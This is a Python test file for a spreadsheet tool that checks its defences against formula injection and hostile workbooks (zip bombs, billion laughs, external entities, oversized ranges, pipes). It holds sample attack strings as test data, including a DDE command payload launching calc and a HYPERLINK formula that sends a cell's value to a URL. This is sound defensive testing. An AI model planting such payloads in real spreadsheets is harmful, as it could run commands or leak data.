"""Safe spreadsheet output and hostile spreadsheet input (issue 10, items 5, 7 and 8).

* Text is never written as a formula: every xlsx and CSV writer keeps ``=HYPERLINK(...)``,
  ``+1``, ``-2``, ``@SUM``, tab- and CR-led text as text, and the file reads back unchanged.
* Damaged or hostile workbooks (truncated XML, a DTD, malformed styles, a zip bomb, a cell at
  XFD1048576, a million rows, hidden sheets) give one located problem, fast and in bounded
  memory, measured in a subprocess (its own peak RSS, ``VmHWM``).
* Readers refuse anything that is not a regular file, and files over their size cap.
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

import samvalg
from samvalg.errors import ValidationError
from samvalg.io import read_csv, write_csv, write_template
from samvalg.io._workbook_guard import MAX_CELLS, MAX_COLUMNS, MAX_ROWS, MAX_UNPACKED_BYTES
from samvalg.io.csv import MAX_CSV_BYTES, quote_text, unquote_text
from samvalg.io.xlsx._cells import escape_text as _escape_text
from samvalg.io.xlsx._cells import put as _put
from samvalg.io.xlsx._cells import unescape_text as _unescape_text
from samvalg.io.xlsx._layout import MAX_FILE_BYTES

sys.path.insert(0, str(Path(__file__).parent))

import _hostile_workbooks as hostile

HYPERLINK = '=HYPERLINK("https://example.invalid/?q="&A1,"klikk her")'
FORMULA_LIKE = [HYPERLINK, "+1", "-2", "@SUM(A1:A9)", "\tx", "=1+1", "#N/A", "'=quoted"]
OWN_FORMULAS = re.compile(r"^(IF\(SUM\(|SUM\(C)")


def _problem(path: Path) -> list[samvalg.errors.Problem]:
    with pytest.raises(ValidationError) as info:
        samvalg.load_assessment(path)
    return list(info.value.problems)


@pytest.fixture(scope="module")
def hostile_text() -> samvalg.Assessment:
    """The example with formula-like user text in every kind of text field."""
    d = samvalg.example_assessment().to_dict()
    d["meta"]["title"] = HYPERLINK
    d["meta"]["description"] = "+1 is the first line\r\n-2 the second\tand a tab _x000D_"
    d["meta"]["authors"] = ["-2", "@SUM(A1:A9)", "#N/A", "=1+1", "'=quoted"]
    scores = d["services"]["lonn"]["scores"]
    for (opt, crit), text in zip(
        [(o, c) for o in scores for c in list(scores[o])[:2]], FORMULA_LIKE, strict=False
    ):
        cell = scores[opt][crit]
        value = cell["value"] if isinstance(cell, dict) else cell
        scores[opt][crit] = {
            **(cell if isinstance(cell, dict) else {}),
            "value": value,
            "rationale": text,
        }
    st = next(iter(d["stakeholders"].values()))
    st["name"] = "=1+1"
    st["description"] = "@cmd|' /C calc'!A0\r\n\tsecond line"
    return samvalg.load_assessment(d)


# -- item 5: no formula injection ----------------------------------------------------------------


def test_workbook_keeps_formula_like_text_as_text(
    tmp_path: Path, hostile_text: samvalg.Assessment
) -> None:
    path = write_template(tmp_path / "s.xlsx", assessment=hostile_text)
    back = samvalg.load_assessment(path)
    assert back.to_dict() == hostile_text.to_dict()
    assert back.meta.title == HYPERLINK
    assert back.meta.description == hostile_text.meta.description  # \r\n and \t kept
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            xml = zf.read(name).decode("utf-8", "replace")
            formulas = re.findall(r"<f>([^<]*)</f>", xml)
            assert all(OWN_FORMULAS.match(f) for f in formulas), (name, formulas)
            assert "HYPERLINK" not in "".join(formulas)
    wb = openpyxl.load_workbook(path)
    assert wb["meta"]["C5"].value == HYPERLINK and wb["meta"]["C5"].data_type == "s"
    for row in wb["meta"].iter_rows(min_row=4):
        for c in row:
            assert c.data_type in ("s", "n", "b"), (c.coordinate, c.data_type, c.value)


def test_own_formulas_are_kept(tmp_path: Path) -> None:
    """The weight shares stay live formulas; only user text is defused."""
    path = write_template(tmp_path / "s.xlsx", services=["lonn"])
    ws = openpyxl.load_workbook(path)["vekter_strategy"]
    assert ws["D12"].data_type == "f" and ws["D12"].value.startswith("=IF(SUM(")
    assert ws["C9"].data_type == "f"


@pytest.mark.parametrize(
    "text", ["\rx", "a\rb", "\x01x", "_x000D_", "_x005F_", "x_x0041_y", "=\r", "\t\n"]
)
def test_cell_text_escape_is_lossless(tmp_path: Path, text: str) -> None:
    """Carriage returns and other control characters survive XML as ``_x000D_``."""
    assert _unescape_text(_escape_text(text)) == text
    wb = openpyxl.Workbook()
    cell = _put(wb.active, 1, 1, text)
    assert cell.data_type == "s"
    wb.save(tmp_path / "e.xlsx")
    back = openpyxl.load_workbook(tmp_path / "e.xlsx").active["A1"]
    assert back.data_type == "s" and _unescape_text(back.value) == text


def test_a_carriage_return_saved_by_excel_is_a_located_error(tmp_path: Path) -> None:
    """Excel stores a CR as ``_x000D_``: it is read as a CR, which a title may not hold."""
    src = write_template(
        tmp_path / "s.xlsx", services=["lonn"], assessment=samvalg.example_assessment()
    )
    wb = openpyxl.load_workbook(src)
    wb["meta"]["C5"] = "Tittel_x000D_"
    wb.save(tmp_path / "cr.xlsx")
    problems = _problem(tmp_path / "cr.xlsx")
    assert any(p.location == "meta!C5" and "U+000D" in p.message for p in problems), problems


@pytest.mark.parametrize("set_id", ["strategy", "gains"])
def test_csv_quotes_formula_like_text_and_reads_it_back(
    tmp_path: Path, hostile_text: samvalg.Assessment, set_id: str
) -> None:
    path = write_csv(hostile_text, "lonn", set_id, tmp_path / "m.csv")
    text = path.read_text(encoding="utf-8-sig")
    assert read_csv(path, hostile_text, "lonn", set_id).to_dict() == hostile_text.to_dict()
    if set_id == "strategy":
        assert '"\'=HYPERLINK(""https' in text  # csv doubles the inner quotes
        assert ",'+1," in text and ",'-2," in text and ",'@SUM(A1:A9)," in text
        assert ",'\tx," in text and ",''=quoted" in text
    import csv

    labels = {"+", "++", "+++", "++++", "-", "--", "---", "----"}  # fixed scale labels
    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        for cell in row:
            if cell in labels or re.fullmatch(r"-?\d+(\.\d+)?", cell):
                continue  # numbers stay numbers, labels stay labels
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("''=", "'''="),
        ("x", "x"),
        ("", ""),
        ("1-2", "1-2"),
    ],
)
def test_csv_quote_round_trip(text: str, written: str) -> None:
    assert quote_text(text) == written
    assert unquote_text(written) == text


def test_csv_reader_keeps_a_users_own_quote() -> None:
    assert unquote_text("'hei") == "'hei"
    assert unquote_text("'") == "'"


# -- items 7 and 8: hostile workbooks ------------------------------------------------------------


@pytest.fixture(scope="module")
def base_book(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    a = samvalg.example_assessment()
    small = a.replace(services={"lonn": a.services["lonn"]}, stakeholders={})
    path = write_template(tmp_path_factory.mktemp("base") / "t.xlsx", assessment=small)
    return path.read_bytes()


_CHILD = """
import atexit, sys

def peak():
    with open("/proc/self/status") as f:
        kb = next(line.split()[1] for line in f if line.startswith("VmHWM"))
    sys.stderr.write(f"\\nPEAK-RSS-KB {kb}\\n")

atexit.register(peak)
from samvalg.cli import main
sys.exit(main(sys.argv[1:]))
"""


def _run_cli(path: Path) -> tuple[int, str, float, float]:
    """``samvalg validate path`` in a subprocess: exit code, stderr, seconds, peak RSS in MB.

    The peak is the child's own ``VmHWM`` (its memory after ``exec``): ``ru_maxrss`` of a
    child on Linux also counts the parent's memory copied at the fork.
    """
    start = time.perf_counter()
    proc = subprocess.run(
        [sys.executable, "-c", _CHILD, "validate", str(path)],
        capture_output=True,
        timeout=120,
        check=False,
    )
    seconds = time.perf_counter() - start
    err = proc.stderr.decode("utf-8", "replace")
    err, _, kb = err.rpartition("PEAK-RSS-KB ")
    return proc.returncode, err.strip(), seconds, int(kb) / 1024


HUGE = {
    "zip bomb (400 MB unpacked)": (hostile.zip_bomb(400), "", ("unpacks to 400 MB", "50 MB")),
    "zip bomb declaring 1 kB": (hostile.zip_bomb(400, lie=True), "", ("damaged", "image1.xml")),
    "one cell at XFD1048576": (
        hostile.cell_at("XFD1048576"),
        "lonn",
        ("row 1 048 576", "at most 10 000 rows"),
    ),
    "declared range A1:XFD1048576": (
        hostile.cell_at("J300", dimension="A1:XFD1048576"),
        "lonn",
        ("used range A1:XFD1048576", "200 columns"),
    ),
    "1 000 000 rows": (hostile.many_rows(1_000_000), "lonn", ("row 10 001", "10 000 rows")),
    "a cell at GR10000 (2 million empty cells to walk)": (
        hostile.cell_at("GR10000"),
        "lonn",
        ("span more than 250 000 cells",),
    ),
    "merged A1:GR10000": (
        hostile.edit_sheet(
            "lonn",
            lambda x: x.replace(
                b"</sheetData>",
                b'</sheetData><mergeCells count="1"><mergeCell ref="K1:GR10000"/></mergeCells>',
                1,
            ),
        ),
        "lonn",
        ("merged cells K1:GR10000",),
    ),
}


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs /proc to measure")
@pytest.mark.parametrize("case", list(HUGE), ids=list(HUGE))
def test_huge_workbooks_fail_fast_in_bounded_memory(
    tmp_path: Path, base_book: bytes, case: str
) -> None:
    build, where, words = HUGE[case]
    path = tmp_path / "stor.xlsx"
    path.write_bytes(build(base_book))
    code, err, seconds, rss_mb = _run_cli(path)
    assert code == 2, err
    assert "Traceback" not in err
    line = err.strip().splitlines()[0]
    assert line.startswith(f"samvalg: error: stor.xlsx: {where + ': ' if where else ''}"), err
    assert all(w in err for w in words), (words, err)
    assert seconds < 10, f"{case}: {seconds:.1f} s"
    assert rss_mb < 500, f"{case}: {rss_mb:.0f} MB"
    print(f"{case}: {seconds:.2f} s, peak RSS {rss_mb:.0f} MB")


def test_the_caps_are_documented_and_far_above_a_real_workbook(tmp_path: Path) -> None:
    path = write_template(tmp_path / "full.xlsx", assessment=samvalg.example_assessment())
    wb = openpyxl.load_workbook(path)
    assert max(ws.max_row for ws in wb.worksheets) * 10 < MAX_ROWS
    assert max(ws.max_column for ws in wb.worksheets) * 10 < MAX_COLUMNS
    assert sum(ws.max_row * ws.max_column for ws in wb.worksheets) * 5 < MAX_CELLS
    with zipfile.ZipFile(path) as zf:
        assert sum(i.file_size for i in zf.infolist()) * 10 < MAX_UNPACKED_BYTES
    assert samvalg.load_assessment(path).to_dict() == samvalg.example_assessment().to_dict()


@pytest.mark.parametrize(
    ("build", "where", "words"),
    [
        (hostile.truncated(), "lonn", ("damaged", "not well-formed XML", "cut short")),
        (hostile.billion_laughs(), "lonn", ("document type declaration", "without expanding")),
        (hostile.external_entity(), "lonn", ("document type declaration",)),
        (hostile.styles(hostile.MALFORMED_STYLES), "", ("styles.xml", "not well-formed")),
        (hostile.styles(hostile.NONSENSE_STYLES), "", ("not a readable .xlsx workbook", "damaged")),
        (hostile.sheet_state("lonn", "hidden"), "lonn", ("'lonn' is hidden", "unhide")),
        (hostile.sheet_state("meta", "veryHidden"), "meta", ("veryHidden",)),
    ],
    ids=[
        "truncated sheet",
        "billion laughs",
        "external entity",
        "malformed styles.xml",
        "nonsense styles.xml",
        "hidden sheet",
        "veryHidden sheet",
    ],
)
def test_damaged_workbooks_give_one_located_problem(
    tmp_path: Path, base_book: bytes, build: Any, where: str, words: tuple[str, ...]
) -> None:
    path = tmp_path / "skadet.xlsx"
    path.write_bytes(build(base_book))
    start = time.perf_counter()
    problems = _problem(path)
    assert time.perf_counter() - start < 10
    found = [p for p in problems if p.location == where and p.source == "skadet.xlsx"]
    assert found, [str(p) for p in problems]
    assert any(all(w in f"{p.message} (allowed: {p.allowed})" for w in words) for p in found)


def test_a_hidden_sheet_that_is_not_read_is_fine(tmp_path: Path, base_book: bytes) -> None:
    """Hiding the guide (never read) is not a problem; hiding a read sheet is."""
    path = tmp_path / "g.xlsx"
    path.write_bytes(hostile.sheet_state("Veiledning", "hidden")(base_book))
    assert "lonn" in samvalg.load_assessment(path).services


def test_every_openpyxl_failure_is_a_problem(
    tmp_path: Path, base_book: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever the parser raises (here a KeyError deep inside) becomes a located problem."""

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise KeyError("There is no item named 'xl/sharedStrings.xml' in the archive")

    monkeypatch.setattr(openpyxl, "load_workbook", broken)
    path = tmp_path / "k.xlsx"
    path.write_bytes(base_book)
    (p,) = _problem(path)
    assert p.source == "k.xlsx" and "not a readable .xlsx workbook" in p.message
    assert "KeyError" in p.message


# -- not a regular file, or too large ------------------------------------------------------------


@pytest.fixture
def example() -> samvalg.Assessment:
    return samvalg.example_assessment()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_named_pipe_is_refused_without_blocking(
    tmp_path: Path, example: samvalg.Assessment, suffix: str
) -> None:
    path = tmp_path / f"pipe{suffix}"
    os.mkfifo(path)
    start = time.perf_counter()
    with pytest.raises(ValidationError) as info:
        if suffix == ".csv":
            read_csv(path, example, "lonn", "strategy")
        else:
            samvalg.load_assessment(path)
    assert time.perf_counter() - start < 5
    (p,) = info.value.problems
    assert p.source == path.name and "named pipe (FIFO)" in p.message


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_device_is_refused(tmp_path: Path, example: samvalg.Assessment, suffix: str) -> None:
    path = tmp_path / f"zero{suffix}"
    path.symlink_to("/dev/zero")
    with pytest.raises(ValidationError) as info:
        if suffix == ".csv":
            read_csv(path, example, "lonn", "strategy")
        else:
            samvalg.load_assessment(path)
    (p,) = info.value.problems
    assert "a device, not a regular file" in p.message


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_folder_is_refused(tmp_path: Path, example: samvalg.Assessment, suffix: str) -> None:
    path = tmp_path / f"mappe{suffix}"
    path.mkdir()
    with pytest.raises(ValidationError) as info:
        if suffix == ".csv":
            read_csv(path, example, "lonn", "strategy")
        else:
            samvalg.load_assessment(path)
    assert "is a folder, not a file" in info.value.problems[0].message


@pytest.mark.parametrize(("suffix", "cap"), [(".csv", MAX_CSV_BYTES), (".xlsx", MAX_FILE_BYTES)])
def test_a_file_over_the_cap_is_refused_before_reading(
    tmp_path: Path, example: samvalg.Assessment, suffix: str, cap: int
) -> None:
    path = tmp_path / f"stor{suffix}"
    with path.open("wb") as f:  # sparse: no disk space used
        f.truncate(cap + 1)
    with pytest.raises(ValidationError) as info:
        if suffix == ".csv":
            read_csv(path, example, "lonn", "strategy")
        else:
            samvalg.load_assessment(path)
    (p,) = info.value.problems
    assert "larger than the limit" in p.message and f"{cap // 2**20}.0 MB" in p.message


def test_cli_refuses_a_pipe_with_exit_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from samvalg.cli import main

    if not hasattr(os, "mkfifo"):
        pytest.skip("needs named pipes")
    path = tmp_path / "pipe.xlsx"
    os.mkfifo(path)
    assert main(["validate", str(path)]) == 2
    err = capsys.readouterr().err
    assert "pipe.xlsx" in err and "named pipe" in err and "Traceback" not in err


def test_guard_reads_the_archive_in_bounded_chunks() -> None:
    """The guard never holds a whole part: zipfile stops at the declared size (checked)."""
    data = hostile.zip_bomb(60, lie=True)(_minimal_book())
    from samvalg.io._workbook_guard import check_workbook

    with pytest.raises(ValidationError) as info:
        check_workbook(io.BytesIO(data), "b.xlsx")
    assert "cannot be unpacked" in info.value.problems[0].message


def _minimal_book() -> bytes:
    buf = io.BytesIO()
    openpyxl.Workbook().save(buf)
    return buf.getvalue()
